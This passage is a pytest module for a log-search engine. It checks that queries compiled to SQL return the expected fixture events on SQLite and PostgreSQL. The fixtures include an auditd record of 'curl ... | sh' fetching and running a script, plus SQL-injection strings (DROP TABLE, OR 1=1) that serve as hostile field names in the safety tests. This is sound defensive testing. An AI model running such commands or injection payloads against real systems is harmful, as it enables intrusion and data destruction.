"""Search queries compiled to SQL, run on real SQLite and PostgreSQL databases.

Three layers of checks: a table of representative queries over ~20 realistic events with the
exact events each must return; a hypothesis property comparing the SQL result with a plain
Python evaluation of the query (the reference semantics, written out below); and safety
checks (hostile field names, size limits).
"""

from __future__ import annotations

import re
import uuid
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, tzinfo
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from garrison.core.errors import QuerySyntaxError
from garrison.events import schema
from garrison.events.model import Event
from garrison.normalize.base import ParseContext
from garrison.search import timeparse
from garrison.search.query import (
    MAX_DEPTH,
    MAX_TERMS,
    And,
    Exists,
    MatchAll,
    Node,
    Not,
    Or,
    Range,
    Term,
    Text,
    Wildcard,
    is_number,
    parse,
    wildcard_regex,
)
from garrison.storage.sql import tables as t
from garrison.storage.sql.codec import event_to_row, to_micros
from garrison.storage.sql.engine import make_engine, normalise_url, upgrade
from garrison.storage.sql.events import SqlEventStore
from garrison.storage.sql.query_sql import COLUMNS, compile_where, json_field
from tests.conftest import postgres_url

NOW = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)
T = datetime(2026, 11, 23, 0, 0, tzinfo=UTC)


# ---------------------------------------------------------------------------------------------
# Realistic events
# ---------------------------------------------------------------------------------------------
def _auth(host: str, message: str) -> str:
    return f"Nov 23 03:14:07 {host} sshd[2211]: {message}"


# label -> (minutes after T, dataset, original, fields)
EVENTS: dict[str, tuple[int, str, str, dict[str, Any]]] = {
    "ssh_fail_root": (
        190,
        "linux.auth",
        _auth("web-01", "Failed password for root from 203.0.113.7 port 52113 ssh2"),
        {
            "event.category": "authentication",
            "event.action": "password_failed",
            "event.outcome": "failure",
            "source.ip": "203.0.113.7",
            "source.port": 52113,
            "user.name": "root",
            "host.name": "web-01",
            "process.name": "sshd",
            "process.pid": 2211,
        },
    ),
    "ssh_fail_admin": (
        191,
        "linux.auth",
        _auth("web-01", "Failed password for invalid user Admin from 203.0.113.7 port 52120 ssh2"),
        {
            "event.category": "authentication",
            "event.action": "password_failed",
            "event.outcome": "failure",
            "source.ip": "203.0.113.7",
            "source.port": 52120,
            "user.name": "Admin",
            "host.name": "web-01",
            "process.name": "sshd",
            "sshd.invalid_user": True,
        },
    ),
    "ssh_ok_deploy": (
        200,
        "linux.auth",
        _auth("web-01", "Accepted publickey for deploy from 10.0.0.5 port 50022 ssh2"),
        {
            "event.category": "authentication",
            "event.action": "ssh_login",
            "event.outcome": "success",
            "source.ip": "10.0.0.5",
            "source.port": 50022,
            "user.name": "deploy",
            "host.name": "web-01",
            "process.name": "sshd",
            "sshd.auth_method": "publickey",
        },
    ),
    "sudo_alice": (
        300,
        "linux.auth",
        "Nov 23 05:00:00 web-01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
        "COMMAND=/usr/bin/systemctl restart nginx",
        {
            "event.category": "process",
            "event.action": "sudo",
            "event.outcome": "success",
            "user.name": "alice",
            "user.effective.name": "root",
            "host.name": "web-01",
            "process.command_line": "/usr/bin/systemctl restart nginx",
            "process.name": "sudo",
        },
    ),
    "useradd": (
        310,
        "linux.auth",
        "Nov 23 05:10:00 web-01 useradd[3301]: new user: name=backdoor, UID=0, GID=0",
        {
            "event.category": "iam",
            "event.action": "user_created",
            "event.outcome": "success",
            "user.name": "backdoor",
            "user.id": "0",
            "host.name": "web-01",
            "process.pid": 3301,
        },
    ),
    "web_index": (
        400,
        "nginx.access",
        '198.51.100.23 - - [23/Nov/2026:06:40:00 +0000] "GET /index.php?id=1 HTTP/1.1" 200 5120 '
        '"-" "Mozilla/5.0 (X11; Linux x86_64)"',
        {
            "event.category": "web",
            "event.outcome": "success",
            "source.ip": "198.51.100.23",
            "http.request.method": "GET",
            "url.path": "/index.php",
            "url.query": "id=1",
            "http.response.status_code": 200,
            "http.response.body.bytes": 5120,
            "user_agent.original": "Mozilla/5.0 (X11; Linux x86_64)",
        },
    ),
    "web_wp_login": (
        401,
        "nginx.access",
        '203.0.113.7 - - [23/Nov/2026:06:41:00 +0000] "POST /wp-login.php HTTP/1.1" 404 162 '
        '"-" "sqlmap/1.7.2#stable (https://sqlmap.org)"',
        {
            "event.category": "web",
            "event.outcome": "failure",
            "source.ip": "203.0.113.7",
            "http.request.method": "POST",
            "url.path": "/wp-login.php",
            "http.response.status_code": 404,
            "http.response.body.bytes": 162,
            "user_agent.original": "sqlmap/1.7.2#stable (https://sqlmap.org)",
        },
    ),
    "web_500": (
        402,
        "nginx.access",
        '10.0.0.9 - bob [23/Nov/2026:06:42:00 +0000] "POST /api/orders HTTP/1.1" 500 0 "-" '
        '"curl/8.4"',
        {
            "event.category": "web",
            "event.outcome": "failure",
            "source.ip": "10.0.0.9",
            "user.name": "bob",
            "url.path": "/api/orders",
            "http.response.status_code": 500,
            "http.response.body.bytes": 0,
        },
    ),
    "web_promo": (
        403,
        "nginx.access",
        '10.0.0.9 - - [23/Nov/2026:06:43:00 +0000] "GET /promo?code=50%_OFF HTTP/1.1" 403 9 '
        '"-" "-"',
        {
            "event.category": "web",
            "event.outcome": "failure",
            "source.ip": "10.0.0.9",
            "url.path": "/promo",
            "url.query": "code=50%_OFF",
            "http.response.status_code": 403,
        },
    ),
    "iis_owa": (
        420,
        "iis",
        "2026-11-23 07:00:00 10.0.0.20 POST /owa/auth.owa - 443 - 192.0.2.44 "
        "Mozilla/5.0+(Windows+NT+10.0) 401 1 1326 31",
        {
            "event.category": "web",
            "event.outcome": "failure",
            "source.ip": "192.0.2.44",
            "destination.ip": "10.0.0.20",
            "url.path": "/owa/auth.owa",
            "cs-uri-stem": "/owa/auth.owa",
            "cs(User-Agent)": "Mozilla/5.0+(Windows+NT+10.0)",
            "sc-status": "401",
            "time-taken": "31",
            "http.response.status_code": 401,
        },
    ),
    "win_4625": (
        430,
        "windows.security",
        "An account failed to log on. Account Name: Administrator Source Network Address: "
        "192.0.2.44",
        {
            "event.category": "authentication",
            "event.action": "logon_failed",
            "event.outcome": "failure",
            "event.code": "4625",
            "user.name": "Administrator",
            "source.ip": "192.0.2.44",
            "host.name": "DC01",
            "winlog.event_data.LogonType": "3",
        },
    ),
    "win_4624": (
        431,
        "windows.security",
        "An account was successfully logged on. Account Name: svc_backup",
        {
            "event.category": "authentication",
            "event.action": "logon",
            "event.outcome": "success",
            "event.code": "4624",
            "user.name": "svc_backup",
            "host.name": "DC01",
            "winlog.event_data.LogonType": "5",
        },
    ),
    "auditd_exec": (
        500,
        "linux.auditd",
        'type=EXECVE msg=audit(1795417200.123:881): argc=3 a0="bash" a1="-c" a2="curl x|sh"',
        {
            "event.category": "process",
            "event.action": "executed",
            "process.name": "bash",
            "process.args": ["bash", "-c", "curl http://198.51.100.66/x | sh"],
            "user.name": "www-data",
            "host.name": "web-01",
            "tags": ["suspicious", "download"],
        },
    ),
    "cloud_login": (
        600,
        "aws.cloudtrail",
        '{"eventName":"ConsoleLogin","sourceIPAddress":"2001:db8::1","errorMessage":"Failed"}',
        {
            "event.category": "authentication",
            "event.action": "ConsoleLogin",
            "event.outcome": "failure",
            "source.ip": "2001:db8::1",
            "user.name": "alice",
            "cloud.provider": "aws",
            "cloud.region": "ap-east-1",
            "tags": ["cloud", "aws"],
        },
    ),
    "suricata": (
        610,
        "suricata.eve",
        '{"event_type":"alert","alert":{"signature":"ET SCAN Potential SSH Scan"}}',
        {
            "event.kind": "alert",
            "event.category": "intrusion_detection",
            "source.ip": "203.0.113.7",
            "destination.ip": "10.0.0.10",
            "destination.port": 22,
            "rule.name": "ET SCAN Potential SSH Scan",
            "event.severity": 2,
        },
    ),
    "fw_drop": (
        620,
        "iptables",
        "kernel: DROP IN=eth0 SRC=192.0.2.200 DST=10.0.0.10 PROTO=TCP DPT=3389",
        {
            "event.category": "network",
            "event.action": "drop",
            "source.ip": "192.0.2.200",
            "destination.ip": "10.0.0.10",
            "destination.port": 3389,
        },
    ),
    "app_json": (
        700,
        "json",
        '{"msg":"payment processed","debug":true,"latency":1.5}',
        {
            "message": "payment processed",
            "app.debug": True,
            "app.latency": 1.5,
            "app.amount": "-12.50",
            "app.version": "1.2.3",
        },
    ),
    "app_json_off": (
        701,
        "json",
        '{"msg":"refund","debug":false,"latency":22}',
        {"message": "refund", "app.debug": False, "app.latency": 22, "app.amount": "30"},
    ),
    "chinese_user": (
        800,
        "linux.auth",
        _auth("db-01", "Accepted password for 张三 from 10.0.0.7 port 40000 ssh2"),
        {
            "event.category": "authentication",
            "event.action": "ssh_login",
            "event.outcome": "success",
            "source.ip": "10.0.0.7",
            "user.name": "张三",
            "host.name": "db-01",
        },
    ),
    "yesterday": (
        -60,
        "linux.auth",
        _auth("web-01", "Failed password for root from 198.51.100.99 port 1000 ssh2"),
        {
            "event.category": "authentication",
            "event.outcome": "failure",
            "source.ip": "198.51.100.99",
            "user.name": "root",
            "tags": ["timestamp_unparsed"],
        },
    ),
}
UNPARSED_TEXT = "\x1b[31mgarbage that no parser understood"


def realistic_events() -> dict[str, Event]:
    ctx = ParseContext(stream="query-test", now=NOW)
    out = {
        label: ctx.make(
            timestamp=T + timedelta(minutes=minutes),
            dataset=dataset,
            original=original,
            offset=i * 100,
            fields=dict(fields),
        )
        for i, (label, (minutes, dataset, original, fields)) in enumerate(EVENTS.items())
    }
    out["unparsed"] = ctx.unparsed(UNPARSED_TEXT, 99_999, "no parser matched")
    return out


# ---------------------------------------------------------------------------------------------
# Databases (one per backend per module: loading is the slow part)
# ---------------------------------------------------------------------------------------------
@dataclass
class Loaded:
    engine: sa.Engine
    ids: dict[str, str]  # label -> event id

    @property
    def dialect(self) -> str:
        return self.engine.dialect.name

    def search(self, query: str | Node, *, tz: tzinfo = UTC) -> set[str]:
        node = parse(query) if isinstance(query, str) else query
        where = compile_where(node, self.dialect, now=NOW, tz=tz)
        with self.engine.connect() as conn:
            found = set(conn.execute(sa.select(t.events.c.id).where(where)).scalars())
        labels = {v: k for k, v in self.ids.items()}
        return {labels.get(i, i) for i in found}


@contextmanager
def fresh_database(backend: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[sa.Engine]:
    """A migrated empty database: a SQLite file, or a PostgreSQL schema dropped afterwards."""
    if backend == "sqlite":
        eng = make_engine(f"sqlite:///{tmp_path_factory.mktemp('query') / 'g.db'}")
        upgrade(eng)
        yield eng
        eng.dispose()
        return
    base = normalise_url(postgres_url())
    schema_name = "g_" + uuid.uuid4().hex[:12]
    admin = sa.create_engine(base)
    with admin.begin() as conn:
        conn.exec_driver_sql(f"CREATE SCHEMA {schema_name}")
    eng = sa.create_engine(base, connect_args={"options": f"-csearch_path={schema_name}"})
    try:
        upgrade(eng)
        yield eng
    finally:
        eng.dispose()
        with admin.begin() as conn:
            conn.exec_driver_sql(f"DROP SCHEMA {schema_name} CASCADE")
        admin.dispose()


@pytest.fixture(
    scope="module", params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)]
)
def backend(request: pytest.FixtureRequest) -> str:
    """Each test of this module runs once per backend."""
    return str(request.param)


@pytest.fixture(scope="module")
def engine(backend: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[sa.Engine]:
    """The database holding the realistic events (shared by this module's tests)."""
    with fresh_database(backend, tmp_path_factory) as eng:
        yield eng


@pytest.fixture(scope="module")
def scratch_engine(backend: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[sa.Engine]:
    """A second database, refilled with random events by the property tests."""
    with fresh_database(backend, tmp_path_factory) as eng:
        yield eng


@pytest.fixture(scope="module")
def loaded(engine: sa.Engine) -> Loaded:
    events = realistic_events()
    with engine.begin() as conn:
        conn.execute(t.events.delete())
    SqlEventStore(engine).append(list(events.values()), source="test")
    return Loaded(engine, {label: e.id for label, e in events.items()})


ALL = set(EVENTS) | {"unparsed"}
SSH_FAILS = {"ssh_fail_root", "ssh_fail_admin", "yesterday"}
FROM_ATTACKER = {"ssh_fail_root", "ssh_fail_admin", "web_wp_login", "suricata"}

CASES: list[tuple[str, set[str]]] = [
    # everything
    ("", ALL),
    ("*", ALL),
    # promoted columns, case-insensitive
    ("user.name:root", {"ssh_fail_root", "yesterday"}),
    ("user.name:ROOT", {"ssh_fail_root", "yesterday"}),
    ("user.name:admin", {"ssh_fail_admin"}),
    ("user.name:adm*", {"ssh_fail_admin", "win_4625"}),
    ("user.name:*dmin*", {"ssh_fail_admin", "win_4625"}),
    ("user.name:?lice", {"sudo_alice", "cloud_login"}),
    ("user.name:张三", {"chinese_user"}),
    ("user.name:svc_backup", {"win_4624"}),
    ("user.name:svc?backup", {"win_4624"}),
    ("user.name:svc\\_backup*", {"win_4624"}),
    ("user.name:s_c*", set()),  # '_' is no wildcard
    ("source.ip:203.0.113.7", FROM_ATTACKER),
    ('source.ip:"2001:db8::1"', {"cloud_login"}),
    ("source.ip:2001\\:DB8\\:\\:1", {"cloud_login"}),
    ("source.ip:10.0.0.*", {"ssh_ok_deploy", "web_500", "web_promo", "chinese_user"}),
    ("destination.ip:10.0.0.10", {"suricata", "fw_drop"}),
    ("host.name:dc01", {"win_4625", "win_4624"}),
    (
        "event.category:authentication AND event.outcome:failure",
        SSH_FAILS | {"win_4625", "cloud_login"},
    ),
    ("event.kind:alert", {"suricata"}),
    ("event.kind:pipeline_error", {"unparsed"}),
    ("event.action:(ssh_login OR sudo)", {"ssh_ok_deploy", "sudo_alice", "chinese_user"}),
    ("event.dataset:nginx.access", {"web_index", "web_wp_login", "web_500", "web_promo"}),
    ("event.dataset:windows.*", {"win_4625", "win_4624"}),
    # JSON fields
    ("source.port:52113", {"ssh_fail_root"}),
    ('source.port:"52113"', {"ssh_fail_root"}),
    ("source.port:52113.0", {"ssh_fail_root"}),
    ("destination.port:22", {"suricata"}),
    ("process.name:SSHD", {"ssh_fail_root", "ssh_fail_admin", "ssh_ok_deploy"}),
    ("sshd.invalid_user:true", {"ssh_fail_admin"}),
    ("app.debug:true", {"app_json"}),
    ("app.debug:FALSE", {"app_json_off"}),
    ("app.latency:1.5", {"app_json"}),
    ("app.latency:22", {"app_json_off"}),
    ("app.version:1.2.3", {"app_json"}),
    ("url.path:*.php", {"web_index", "web_wp_login"}),
    ("url.path:/INDEX.PHP", {"web_index"}),
    ("url.query:code=50%_off", {"web_promo"}),
    ("url.query:*50%_*", {"web_promo"}),
    ("url.query:*0%\\_*", {"web_promo"}),
    ("url.query:*x%*", set()),
    ("url.query:id=1", {"web_index"}),
    ("cs-uri-stem:/owa/auth.owa", {"iis_owa"}),
    ("cs(User-Agent):*windows*", {"iis_owa"}),
    ("user_agent.original:*sqlmap*", {"web_wp_login"}),
    ('user_agent.original:"Mozilla/5.0 (X11; Linux x86_64)"', {"web_index"}),
    ("winlog.event_data.LogonType:3", {"win_4625"}),
    ("event.code:4625", {"win_4625"}),
    # list-valued fields: any element
    ("tags:aws", {"cloud_login"}),
    ("tags:suspicious AND tags:download", {"auditd_exec"}),
    ("tags:time*", {"yesterday"}),
    ("process.args:-c", {"auditd_exec"}),
    ("process.args:*198.51.100.66*", {"auditd_exec"}),
    ("tags:*", {"auditd_exec", "cloud_login", "yesterday"}),
    # exists
    ("sshd.auth_method:*", {"ssh_ok_deploy"}),
    ("destination.ip:*", {"iis_owa", "suricata", "fw_drop"}),
    ("error.message:*", {"unparsed"}),
    ("no.such.field:*", set()),
    ("event.original:*", ALL),
    # numeric ranges (JSON numbers and numeric strings alike)
    ("http.response.status_code>=400", {"web_wp_login", "web_500", "web_promo", "iis_owa"}),
    (
        "http.response.status_code:>=400 AND http.response.status_code<500",
        {"web_wp_login", "web_promo", "iis_owa"},
    ),
    ("http.response.status_code:[400 TO 500}", {"web_wp_login", "web_promo", "iis_owa"}),
    ("http.response.status_code:{403 TO *]", {"web_wp_login", "web_500"}),
    ("http.response.status_code:[* TO 200]", {"web_index"}),
    ("http.response.status_code:(<300 OR >=500)", {"web_index", "web_500"}),
    ("sc-status>=400", {"iis_owa"}),
    ("time-taken:[30 TO 32]", {"iis_owa"}),
    ("http.response.body.bytes<100", {"web_500"}),
    ("app.amount<0", {"app_json"}),
    ("app.amount:[-20 TO 100]", {"app_json", "app_json_off"}),
    ("app.latency>1", {"app_json", "app_json_off"}),
    ("app.latency:{1.5 TO 30}", {"app_json_off"}),
    ("app.version>1", set()),  # "1.2.3" is not a number
    ("app.debug>=0", set()),  # booleans are not numbers
    ("destination.port:[1 TO 1023]", {"suricata"}),
    ("source.port>=1e5", set()),
    ("source.port<1e999999999", {"ssh_fail_root", "ssh_fail_admin", "ssh_ok_deploy"}),
    ("app.latency>-1e400 AND app.latency:[* TO 1e-999999999}", set()),
    ("app.latency:{-1e-400 TO 1e999]", {"app_json", "app_json_off"}),
    ("process.pid:[2000 TO 4000]", {"ssh_fail_root", "useradd"}),
    # text ranges
    ("user.name:[a TO b}", {"ssh_fail_admin", "sudo_alice", "win_4625", "cloud_login"}),
    (
        "host.name:{db-01 TO *]",
        {
            "ssh_fail_root",
            "ssh_fail_admin",
            "ssh_ok_deploy",
            "sudo_alice",
            "useradd",
            "auditd_exec",
            "win_4625",
            "win_4624",
        },
    ),
    # @timestamp
    ("@timestamp>=now-1h", {"app_json", "app_json_off", "chinese_user", "unparsed"}),
    ("@timestamp>now", {"chinese_user"}),
    (
        "@timestamp:[now-6h TO now-5h]",
        {"web_index", "web_wp_login", "web_500", "web_promo", "iis_owa"},
    ),
    ("@timestamp:[now-6h TO now-5h}", {"web_index", "web_wp_login", "web_500", "web_promo"}),
    ("@timestamp:2026-11-22", {"yesterday"}),
    ("@timestamp<2026-11-23", {"yesterday"}),
    ("@timestamp<=2026-11-22", {"yesterday"}),
    ("@timestamp>2026-11-22 AND event.category:iam", {"useradd"}),
    ("@timestamp:[2026-11-23T06:40 TO 2026-11-23T06:42]", {"web_index", "web_wp_login", "web_500"}),
    ("@timestamp:[2026-11-23T06:40 TO 2026-11-23T06:42}", {"web_index", "web_wp_login"}),
    ('@timestamp:"2026-11-23T14:41:00+08:00"', {"web_wp_login"}),
    ("@timestamp:2026-11-23T06:41", {"web_wp_login"}),
    ("@timestamp:*", ALL),
    # free text over the raw record
    ("failed", SSH_FAILS | {"win_4625", "cloud_login"}),
    ('"failed password"', SSH_FAILS),
    ('"FAILED PASSWORD for root"', {"ssh_fail_root", "yesterday"}),
    ("Fail*root", {"ssh_fail_root", "yesterday"}),
    ("garbage", {"unparsed"}),
    ("50%_off", {"web_promo"}),
    ("50%x", set()),
    ("张三", {"chinese_user"}),
    ("event.original:*sqlmap*", {"web_wp_login"}),
    ("event.id:nosuchid", set()),
    # boolean structure, NOT including events without the field
    ("failed -root", {"ssh_fail_admin", "win_4625", "cloud_login"}),
    ("failed AND NOT user.name:root", {"ssh_fail_admin", "win_4625", "cloud_login"}),
    (
        "NOT user.name:*",
        {
            "web_index",
            "web_wp_login",
            "web_promo",
            "iis_owa",
            "suricata",
            "fw_drop",
            "app_json",
            "app_json_off",
            "unparsed",
        },
    ),
    ("NOT tags:aws AND tags:*", {"auditd_exec", "yesterday"}),
    ("NOT source.port>=50000 AND process.name:sshd", set()),
    ("NOT app.latency>1", ALL - {"app_json", "app_json_off"}),
    (
        "!event.outcome:failure event.category:authentication",
        {"ssh_ok_deploy", "win_4624", "chinese_user"},
    ),
    (
        "source.ip:203.0.113.7 AND (event.category:web OR event.kind:alert)",
        {"web_wp_login", "suricata"},
    ),
    (
        "user.name:root OR user.name:alice host.name:web-01",
        {"ssh_fail_root", "yesterday", "sudo_alice"},
    ),
    ("(user.name:root OR user.name:alice) host.name:web-01", {"ssh_fail_root", "sudo_alice"}),
    (
        "NOT (event.outcome:success OR event.outcome:failure) AND event.category:*",
        {"auditd_exec", "suricata", "fw_drop"},
    ),
    ("NOT *", set()),
]


@pytest.mark.parametrize(("query", "expected"), CASES, ids=[q or "<empty>" for q, _ in CASES])
def test_representative_queries(loaded: Loaded, query: str, expected: set[str]) -> None:
    assert loaded.search(query) == expected


def test_event_id_matches_exactly(loaded: Loaded) -> None:
    event_id = loaded.ids["fw_drop"]
    assert loaded.search(f"event.id:{event_id}") == {"fw_drop"}
    assert loaded.search(f"event.id:{event_id.upper()}") == {"fw_drop"}
    assert loaded.search(f"event.id:*{event_id[-8:]}") == {"fw_drop"}


def test_zone_less_times_use_the_given_zone(loaded: Loaded) -> None:
    shanghai = ZoneInfo("Asia/Shanghai")
    assert loaded.search("@timestamp<2026-11-23T08:00", tz=shanghai) == {"yesterday"}
    assert len(loaded.search("@timestamp<2026-11-23T08:00")) == 13
    assert loaded.search("@timestamp:2026-11-22", tz=shanghai) == set()
    assert loaded.search("@timestamp:2026-11-23T14:41", tz=shanghai) == {"web_wp_login"}


def test_count_queries_correlate(loaded: Loaded) -> None:
    where = compile_where(parse("tags:* OR user.name:root"), loaded.dialect, now=NOW)
    with loaded.engine.connect() as conn:
        count = conn.execute(sa.select(sa.func.count()).select_from(t.events).where(where)).scalar()
    assert count == 4


HOSTILE = "a'\"];DROP TABLE events;--"


@pytest.mark.parametrize(
    "node",
    [
        Term(HOSTILE, "x"),
        Term(HOSTILE, "1"),
        Wildcard(HOSTILE, "*"),
        Exists(HOSTILE),
        Range(HOSTILE, "1", "2"),
        Range(HOSTILE, "a", None),
        Term("$.x') OR 1=1 --", "x"),
        Term('"', "x"),
        Term("", "x"),
    ],
)
def test_hostile_field_names_match_nothing_and_harm_nothing(loaded: Loaded, node: Node) -> None:
    assert loaded.search(node) == set()
    assert loaded.search(Not(node)) == ALL
    with loaded.engine.connect() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(t.events)).scalar() == len(ALL)


def test_the_language_itself_rejects_hostile_field_names() -> None:
    with pytest.raises(QuerySyntaxError):
        parse(f"{HOSTILE}:x")


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ('we"ird', "a"),
        ("back\\slash", "b"),
        ("tab\tkey", "c"),
        ("ключ", "d"),
        ("$.x", "e"),
        ("a[0]", "f"),
    ],
)
def test_odd_json_keys_are_addressed_exactly(
    scratch_engine: sa.Engine, key: str, value: str
) -> None:
    engine = scratch_engine
    ctx = ParseContext(stream=f"odd-{uuid.uuid4().hex}", now=NOW)
    event = ctx.make(timestamp=NOW, dataset="json", original="{}", offset=0, fields={key: value})
    SqlEventStore(engine).append([event], source="odd")
    try:
        with engine.connect() as conn:
            where = compile_where(Term(key, value), engine.dialect.name, now=NOW)
            assert set(conn.execute(sa.select(t.events.c.id).where(where)).scalars()) == {event.id}
    finally:
        with engine.begin() as conn:
            conn.execute(t.events.delete().where(t.events.c.id == event.id))


def test_largest_and_deepest_queries_run(loaded: Loaded) -> None:
    wide = " OR ".join(["user.name:root"] + [f"source.port:{i}" for i in range(MAX_TERMS - 1)])
    assert loaded.search(wide) == {"ssh_fail_root", "yesterday"}
    # Alternating AND/OR cannot be flattened: SQL nests as deep as the parentheses.
    deep = "NOT app.latency:{1 TO 2] AND NOT app.amount:[* TO 0}"
    for i in range(MAX_DEPTH - 1):
        deep = f"(no.such{i}:* OR {deep})" if i % 2 else f"(NOT tags:x{i} AND {deep})"
    assert loaded.search(deep) == ALL - {"app_json"}
    nots = "NOT " * (MAX_DEPTH - 1) + "user.name:root"  # odd count: a negation
    assert loaded.search(nots) == ALL - {"ssh_fail_root", "yesterday"}
    nested_nots = "user.name:root"
    for _ in range(MAX_DEPTH // 2 - 1):
        nested_nots = f"NOT (tags:aws OR {nested_nots})"
    # Odd nesting: NOT tags:aws AND NOT user.name:root.
    assert loaded.search(nested_nots) == ALL - {"cloud_login", "ssh_fail_root", "yesterday"}


def test_json_field_reads_one_stored_value(loaded: Loaded) -> None:
    def labels_where(field: str, value: Any) -> set[str]:
        expr = json_field(field, loaded.dialect)
        labels = {v: k for k, v in loaded.ids.items()}
        with loaded.engine.connect() as conn:
            found = conn.execute(sa.select(t.events.c.id).where(expr == value)).scalars()
            return {labels[i] for i in found}

    assert labels_where("user.effective.name", "root") == {"sudo_alice"}
    assert labels_where("user.name", "alice") == {"sudo_alice", "cloud_login"}
    assert labels_where("cloud.region", "ap-east-1") == {"cloud_login"}
    assert labels_where(HOSTILE, "x") == set()
    assert labels_where('we"ird', "x") == set()
    with loaded.engine.connect() as conn:
        ts = conn.execute(sa.select(json_field("@timestamp", loaded.dialect))).scalars().all()
    assert len(ts) == len(ALL) and all(isinstance(v, int) for v in ts)


def test_columns_match_the_schema_and_table() -> None:
    assert set(schema.PROMOTED) <= set(COLUMNS)
    assert set(COLUMNS.values()) <= {c.name for c in t.events.columns}


def test_unknown_dialect_is_refused() -> None:
    with pytest.raises(ValueError, match="unsupported SQL dialect"):
        compile_where(MatchAll(), "mysql")


# ---------------------------------------------------------------------------------------------
# The reference semantics, in plain Python, compared with SQL on random data
# ---------------------------------------------------------------------------------------------
_NUMERIC_TEXT = re.compile(r"-?[0-9]+(\.[0-9]*)?")
_NOT_NULL = {schema.TIMESTAMP, schema.ID, schema.DATASET, schema.ORIGINAL}


def _text(value: Any) -> str | None:
    if value is None:
        return None
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


def _number(value: Any, *, json: bool) -> float | None:
    if isinstance(value, bool) or value is None:
        return None
    if isinstance(value, (int, float)) and json:
        return float(value)
    if isinstance(value, str) and _NUMERIC_TEXT.fullmatch(value):
        return float(value)
    return None


def _values(
    row: Mapping[str, Any], fields: Mapping[str, Any], field: str
) -> tuple[list[Any], bool]:
    """The values of a field and whether they come from the JSON document."""
    if field in COLUMNS:
        value = row[COLUMNS[field]]
        return ([] if value is None else [value]), False
    value = fields.get(field)
    if value is None:
        return [], True
    return (list(value) if isinstance(value, list) else [value]), True


def _span(text: str) -> tuple[int, int]:
    start, end = timeparse.time_span(text, NOW, UTC)
    return to_micros(start), to_micros(end)


def evaluate(node: Node, row: Mapping[str, Any], fields: Mapping[str, Any]) -> bool:
    """Whether an event (its stored row and fields) matches a query: the documented rules."""
    if isinstance(node, MatchAll):
        return True
    if isinstance(node, Not):
        return not evaluate(node.child, row, fields)
    if isinstance(node, And):
        return all(evaluate(c, row, fields) for c in node.items)
    if isinstance(node, Or):
        return any(evaluate(c, row, fields) for c in node.items)
    if isinstance(node, Text):
        original = row["original"].lower()
        if node.wildcard:
            return re.search(wildcard_regex(node.value), original, re.I | re.S) is not None
        return node.value.lower() in original
    assert isinstance(node, (Term, Wildcard, Exists, Range))
    field = node.field
    if field == schema.TIMESTAMP:
        return _evaluate_time(node, row["ts"])
    if isinstance(node, Exists):
        values, _ = _values(row, fields, field)
        return field in _NOT_NULL or any(v is not None for v in values)
    values, json = _values(row, fields, field)
    texts = [s.lower() for s in map(_text, values) if s is not None]
    numbers = [n for n in (_number(v, json=json) for v in values) if n is not None]
    if isinstance(node, Term):
        if field == schema.ID:
            return bool(row["id"] == node.value.lower())
        if node.value.lower() in texts:
            return True
        return json and is_number(node.value) and float(node.value) in numbers
    if isinstance(node, Wildcard):
        regex = re.compile(wildcard_regex(node.pattern), re.I | re.S)
        return any(regex.fullmatch(s) for s in texts)
    assert isinstance(node, Range)
    bounds = [b for b in (node.low, node.high) if b is not None]
    if not bounds:  # [* TO *]: the field exists
        return evaluate(Exists(field), row, fields)
    if all(is_number(b) for b in bounds):
        lo = None if node.low is None else float(node.low)
        hi = None if node.high is None else float(node.high)
        return any(_within(n, lo, hi, node) for n in numbers)
    lo_s = None if node.low is None else node.low.lower()
    hi_s = None if node.high is None else node.high.lower()
    return any(_within(s, lo_s, hi_s, node) for s in texts)


def _within(value: Any, lo: Any, hi: Any, node: Range) -> bool:
    if lo is not None and not (value >= lo if node.include_low else value > lo):
        return False
    return hi is None or (value <= hi if node.include_high else value < hi)


def _evaluate_time(node: Node, ts: int) -> bool:
    if isinstance(node, Exists):
        return True
    if isinstance(node, Term):
        start, end = _span(node.value)
        return start <= ts < end
    assert isinstance(node, Range)
    if node.low is not None:
        start, end = _span(node.low)
        if ts < (start if node.include_low else end):
            return False
    if node.high is not None:
        start, end = _span(node.high)
        if ts >= (end if node.include_high else start):
            return False
    return True


# Small pools so that random queries and random events actually meet.
WORDS = ["root", "Root", "admin", "adm_in", "a%b", "x y", "", "true", "False", "1.2.3", "-"]
NUMERIC_STRINGS = ["22", "022", "22.0", "-5", "1.", "400", "1e3"]
NUMBERS = [0, 22, -5, 400, 1000, 1.5, -2.25, 3.0]
PATTERNS = ["ad*", "*oot", "?oot", "adm\\_*", "a%*", "*2", "2?", "*", "*.*", "tru?", "x*y"]
BOUNDS = ["-5", "0", "22", "400", "1.5", "a", "root", "x", "22.0", "1e999", "-1e-999"]
TIMES = ["2026-11-23", "2026-11-23T10:00", "2026-11-23T10:00:30", "now-1h", "now-2h", "now"]
JSON_FIELDS = ["source.port", "tags", "app.flag", "app.ratio", "app.code"]
ALL_FIELDS = [*JSON_FIELDS, "user.name", "event.dataset"]

scalar_values = st.one_of(
    st.sampled_from(WORDS),
    st.sampled_from(NUMERIC_STRINGS),
    st.sampled_from(NUMBERS),
    st.booleans(),
)
json_values = st.one_of(scalar_values, st.lists(st.none() | scalar_values, max_size=3))


@st.composite
def random_events(draw: st.DrawFn) -> list[Event]:
    ctx = ParseContext(stream="prop", now=NOW)
    events = []
    for i in range(draw(st.integers(0, 6))):
        fields: dict[str, Any] = {}
        for name in draw(st.lists(st.sampled_from(JSON_FIELDS), unique=True, max_size=4)):
            fields[name] = draw(json_values)
        if draw(st.booleans()):
            fields["user.name"] = draw(st.sampled_from(WORDS) | st.sampled_from(NUMERIC_STRINGS))
        minutes = draw(st.integers(-180, 10))
        events.append(
            ctx.make(
                timestamp=NOW + timedelta(minutes=minutes, seconds=draw(st.sampled_from([0, 30]))),
